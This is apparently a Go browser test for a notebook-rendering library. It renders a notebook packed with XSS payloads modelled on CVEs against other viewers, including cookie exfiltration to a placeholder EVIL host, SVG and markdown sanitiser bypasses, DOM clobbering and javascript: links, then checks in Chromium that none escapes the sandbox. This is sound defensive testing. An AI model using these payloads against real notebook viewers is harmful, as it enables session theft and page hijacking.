package render

import (
	"bytes"
	"context"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/fanout-dev/fanout/internal/browsertest"
	"github.com/fanout-dev/fanout/internal/notebook"
)

// attacks are what notebooks have done to those who looked at them, each after an
// advisory about another viewer. EVIL is a server that must not be asked, and
// OURS the page's own.
func attacks() map[string]sketch {
	out := func(data bundle) sketch { return sketch{Outputs: []any{shows(data)}} }
	text := func(source string) sketch { return sketch{Type: "markdown", Source: source} }
	leak := `try { new Image().src = "EVIL/leak?" + document.cookie } catch (e) {}
		try { fetch("OURS/api", {credentials: "include"}) } catch (e) {}
		try { navigator.sendBeacon("EVIL/beacon", "x") } catch (e) {}
		try { parent.document.title = "owned"; parent.owned = 1 } catch (e) {}
		try { top.location = "EVIL/top" } catch (e) {}
		try { open("EVIL/popup") } catch (e) {}
		try { new Worker(URL.createObjectURL(new Blob(["fetch('EVIL/worker')"]))) } catch (e) {}
		try { new WebSocket("EVIL/socket".replace("http", "ws")) } catch (e) {}
		try { localStorage.x = 1; parent.postMessage({fanout: "height", height: 1e9}, "*") } catch (e) {}
		try { parent.postMessage({fanout: "ready"}, "*"); parent.postMessage("x", "*"); parent.postMessage(null, "*") } catch (e) {}`
	return map[string]sketch{
		"CVE-2026-44727 html on the origin":       out(bundle{"text/html": "<script>" + leak + "</script>"}),
		"CVE-2018-21030 svg that executes":        out(bundle{"image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('EVIL/svg')"><script>fetch("EVIL/svg")</script><image href="EVIL/svg.png"/><a href="EVIL/x"><text y="9">x</text></a></svg>`}),
		"CVE-2021-32798 sanitiser got round":      text(`<svg><style><img src=x onerror="top.owned=1"></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=top.owned=1&gt;">`),
		"CVE-2021-32797 form with an action":      text(`<form id=f action="EVIL/form"><input name=a><button id=go>go</button></form><button form=f formaction="EVIL/form">go</button>`),
		"CVE-2021-32797 form in a frame":          out(bundle{"text/html": `<form id=f action="EVIL/form"><input name=a></form><script>f.submit()</script>`}),
		"CVE-2024-43805 clobbering":               text(`<a id=MathJax name=cookie href="x"></a><img name=body id=documentElement><form name=querySelectorAll><input name=attributes></form>`),
		"CVE-2024-22420 headings":                 text("# <img src=x onerror=top.owned=1> [x](javascript:top.owned=1)\n## a\" onmouseover=\"top.owned=1"),
		"CVE-2024-22421 links":                    text("[x](javascript:top.owned=1) <a href='data:text/html,<script>1</script>'>x</a> <a href='//EVIL/x' ping='EVIL/ping'>x</a> ![x](EVIL/picture.png) <base href=EVIL><meta http-equiv=refresh content='0;url=EVIL/refresh'><link rel=stylesheet href=EVIL/style.css>"),
		"CVE-2026-102831 trust from the notebook": {Metadata: bundle{"trusted": true}, Outputs: []any{shows(bundle{"text/html": "<script>" + leak + "</script>"}, bundle{"isolated": false})}},
		"JavaScript as MLflow 1556":               out(bundle{"application/javascript": leak + `; element.innerHTML = "<img src=x onerror='parent.owned=1'>"`}),
		"refresh in a frame":                      out(bundle{"text/html": `<meta http-equiv="refresh" content="0;url=EVIL/refresh">`}),
		"a frame goes elsewhere":                  out(bundle{"text/html": `<script>setTimeout(() => location = "EVIL/navigate", 50)</script><a id=a href="EVIL/click" target=_top>x</a><script>a.click()</script>`}),
		"what a frame loads":                      out(bundle{"text/html": `<base href="EVIL/base/"><link rel=stylesheet href="EVIL/a.css"><link rel=prefetch href="EVIL/prefetch"><img src="EVIL/a.png"><iframe src="EVIL/frame"></iframe><video src="EVIL/a.mp4"></video><object data="EVIL/object"></object><style>@import "EVIL/b.css"; body{background:url(EVIL/c.png)}</style><script src="EVIL/a.js"></script>`}),
		"frame in a frame":                        out(bundle{"text/html": `<iframe srcdoc="<script>fetch('EVIL/srcdoc'); try { top.owned = 1 } catch (e) {}</script>"></iframe><iframe src="data:text/html,<script>fetch('EVIL/data')</script>"></iframe>`}),
		"plotly":                                  out(bundle{"application/vnd.plotly.v1+json": bundle{"data": []any{}, "layout": bundle{"title": bundle{"text": `</script><script>` + leak + `</script><a href="javascript:top.owned=1">x</a>`}, "images": []any{bundle{"source": "EVIL/plotly.png"}}}}}),
		"vega":                                    out(bundle{"application/vnd.vegalite.v6.json": bundle{"data": bundle{"url": "EVIL/data.json"}, "mark": "bar"}}),
		"prints":                                  {Source: `"</code><script>top.owned=1</script>`, Outputs: []any{prints("stdout", `<script>top.owned=1</script>`), prints(`stderr" onclick="x`, "\x1b[31m<img src=x onerror=top.owned=1>"), raises(`<img src=x onerror=top.owned=1>`, `"><script>top.owned=1</script>`, "\x1b]8;;javascript:top.owned=1\x1b\\x")}},
		"tables":                                  out(bundle{"text/html": `<style>#T_1_row0_col0 {background: red url(EVIL/t.png)} @import "EVIL/t.css"; body {background: url(EVIL/t2.png)}</style><table><tr><td id="T_1_row0_col0" onclick="x" style="background-image:url(EVIL/t3.png)">&lt;img src=x onerror=top.owned=1&gt;</td></tr></table>`}),
		"formulas":                                text(`$\href{javascript:top.owned=1}{x} \text{<img src=x onerror=top.owned=1>} \htmlStyle{background:url(EVIL/f)}{y} \includegraphics{EVIL/f.png}$`),
		"resource":                                out(bundle{"application/vnd.dataresource+json": bundle{"schema": bundle{"fields": []any{bundle{"name": "<script>top.owned=1</script>"}}}, "data": []any{bundle{"<script>top.owned=1</script>": `<img src=x onerror=top.owned=1>`}}}}),
		"types":                                   out(bundle{`text/x"><script>top.owned=1</script>`: "<script>top.owned=1</script>", `x<img src=x onerror=top.owned=1>`: "x"}),
		"attachments":                             {Type: "markdown", Source: `![x](attachment:a" onerror="top.owned=1) ![y](attachment:b)`, Attached: bundle{`a" onerror="top.owned=1`: bundle{"image/png": pixel}, "b": bundle{"image/png": `x" onerror="top.owned=1`}}},
	}
}

// hostileBook has all attacks, and a frame that shows that scripts in frames do
// execute: it makes itself 321 pixels tall.
func hostileBook(t *testing.T, ours, evil string) *notebook.Notebook {
	cells := []sketch{{Outputs: []any{shows(bundle{"text/html": `<div id=d></div><script>d.style.height = "321px"</script>`})}}}
	place := strings.NewReplacer("EVIL", evil, "OURS", ours)
	for _, c := range attacks() {
		cells = append(cells, placed(c, place).(sketch))
	}
	return book(t, map[string]any{
		"kernelspec": bundle{"name": `<script>top.owned=1</script>`, "language": `"><img src=x onerror=top.owned=1>`},
		"papermill":  bundle{"parameters": bundle{`<script>top.owned=1</script>`: `<img src=x onerror=top.owned=1>`}},
	}, cells...)
}

// placed puts addresses into every text of v.
func placed(v any, r *strings.Replacer) any {
	switch v := v.(type) {
	case string:
		return r.Replace(v)
	case []any:
		out := []any{}
		for _, e := range v {
			out = append(out, placed(e, r))
		}
		return out
	case map[string]any:
		out := map[string]any{}
		for k, e := range v {
			out[r.Replace(k)] = placed(e, r)
		}
		return out
	case sketch:
		v.Source = r.Replace(v.Source)
		v.Outputs, _ = placed(v.Outputs, r).([]any)
		return v
	}
	return v
}

// A witness notes what is asked of a server.
type witness struct {
	mu    sync.Mutex
	asked []string
}

func (w *witness) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.asked = append(w.asked, r.URL.String()+" cookie="+r.Header.Get("Cookie"))
}

func (w *witness) none(t *testing.T, who string) {
	t.Helper()
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, a := range w.asked {
		t.Errorf("%s: somebody asked for %s", who, a)
	}
}

// A hostile notebook as a file, and served with a cookie: nobody else is asked
// for anything, the page stays, and nothing of it is read or changed.
func TestHostileInABrowser(t *testing.T) {
	browser := browsertest.Chromium(t)
	evil := &witness{}
	far := httptest.NewServer(evil)
	defer far.Close()
	far.URL = strings.Replace(far.URL, "127.0.0.1", "localhost", 1) // cookies know no ports

	t.Run("file", func(t *testing.T) {
		file := filepath.Join(t.TempDir(), "page.html")
		var page bytes.Buffer
		if err := WritePage(&page, "hostile", New(hostileBook(t, far.URL, far.URL), Options{})); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, page.Bytes(), 0o666); err != nil {
			t.Fatal(err)
		}
		visit(t, browser, "file://"+file)
		evil.none(t, "file")
	})

	t.Run("served", func(t *testing.T) {
		api := &witness{}
		mux := http.NewServeMux()
		near := httptest.NewServer(mux)
		defer near.Close()
		n := hostileBook(t, near.URL, far.URL)
		serve(mux, near.URL, n)
		mux.Handle("/", api)
		visit(t, browser, near.URL+"/page")
		evil.none(t, "served")
		api.none(t, "served")

		// Opened by its address a frame may leave for elsewhere, as any page may,
		// but it takes nothing with it.
		for _, p := range partsOf(n) {
			tab, end := chromedp.NewContext(browser)
			within, cancel := context.WithTimeout(tab, time.Minute)
			err := chromedp.Do(within, chromedp.Navigate(near.URL+address(p)), chromedp.Sleep(150*time.Millisecond))
			cancel()
			end()
			if err != nil && !strings.Contains(err.Error(), "ERR_ABORTED") {
				t.Error(err)
			}
		}
		api.none(t, "a frame by itself")
		for _, a := range evil.asked {
			if strings.Contains(a, "secret") || !leaves.MatchString(a) {
				t.Errorf("a frame by itself asked for %s", a)
			}
		}
	})
}

// leaves are the addresses that attacks send a whole page to.
var leaves = regexp.MustCompile(`^/(top|refresh|navigate|click|favicon\.ico) cookie=$`)

func address(p Part) string {
	online := ""
	if p.Online {
		online = "&online=1"
	}
	return fmt.Sprintf("/o/%d/%d?type=%s", p.Cell, p.Output, strings.ReplaceAll(p.MIME, "+", "%2B")) + online
}

func partsOf(n *notebook.Notebook) (parts []Part) {
	for c := range New(n, Options{Address: address}).Cells() {
		parts = append(parts, c.Frames...)
	}
	return parts
}

// serve answers as a server of notebooks does.
func serve(mux *http.ServeMux, origin string, n *notebook.Notebook) {
	mux.HandleFunc("/page", func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("Set-Cookie", "session=secret; Path=/")
		h.Set("Content-Type", "text/html; charset=utf-8")
		h.Set("Content-Security-Policy", "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; connect-src 'self'; frame-src 'self'; form-action 'self'; base-uri 'none'")
		fmt.Fprintf(w, `<!doctype html><title>served</title><style>%s</style><body class="page"><p>%s</p>`, Style(), html.EscapeString("hostile"))
		for c := range New(n, Options{Address: address}).Cells() {
			fmt.Fprint(w, c.HTML)
		}
		fmt.Fprint(w, `<script src="/notebook.js"></script>`)
	})
	mux.HandleFunc("/notebook.js", func(w http.ResponseWriter, r *http.Request) {
		time.Sleep(time.Second) // frames may be ready before the page's script is
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprint(w, Script())
	})
	mux.HandleFunc("/favicon.ico", http.NotFound)
	mux.HandleFunc("/o/{cell}/{output}", func(w http.ResponseWriter, r *http.Request) {
		cell, _ := strconv.Atoi(r.PathValue("cell"))
		output, _ := strconv.Atoi(r.PathValue("output"))
		part, err := Respond(n, Part{cell, output, r.FormValue("type"), r.FormValue("online") != ""}, origin+"/static/")
		if err != nil {
			http.Error(w, err.Error(), http.StatusNotFound)
			return
		}
		for name, value := range part.Header {
			w.Header().Set(name, value)
		}
		w.Write(part.Body)
	})
	for _, a := range Assets() {
		mux.HandleFunc("/static/"+a.Name, func(w http.ResponseWriter, r *http.Request) {
			h := w.Header()
			h.Set("Content-Type", "text/javascript")
			h.Set("Content-Encoding", "gzip")
			h.Set("Access-Control-Allow-Origin", "*")
			w.Write(a.Gzip)
		})
	}
}

// visit opens a page, scrolls through it and clicks on everything in it.
func visit(t *testing.T, browser context.Context, address string) {
	t.Helper()
	tab, end := chromedp.NewContext(browser)
	defer end()
	tab, cancel := context.WithTimeout(tab, 2*time.Minute)
	defer cancel()
	if err := chromedp.Do(tab, chromedp.Navigate(address)); err != nil {
		t.Fatal(err)
	}
	through := `(async () => {
		for (let y = 0; y < document.body.scrollHeight; y += 600) { scrollTo(0, y); await new Promise(r => setTimeout(r, 120)) }
		for (const e of document.querySelectorAll("button, input, summary")) e.click();
		const first = document.querySelector("iframe.frame"); // shows that frames execute
		first.scrollIntoView();
		for (let i = 0; i < 400 && first.style.height !== "321px"; i++) await new Promise(r => setTimeout(r, 100));
		await new Promise(r => setTimeout(r, 1500));
		return [typeof window.owned, document.title, document.querySelector("iframe.frame").style.height,
			[...document.querySelectorAll("iframe.frame")].filter(f => parseFloat(f.style.height) > 4000).length].join(" ");
	})()`
	got, err := chromedp.Run(tab, chromedp.Evaluate[string](through, chromedp.EvalAwaitPromise))
	if err != nil {
		t.Fatal(err)
	}
	title := "served"
	if strings.HasPrefix(address, "file:") {
		title = "hostile"
	}
	if want := "undefined " + title + " 321px 0"; got != want {
		t.Errorf("afterwards the page is %q, want %q", got, want)
	}
	where, err := chromedp.Run(tab, chromedp.Evaluate[string]("location.href"))
	if err != nil || where != address {
		t.Errorf("the page is now %s, %v", where, err)
	}
}
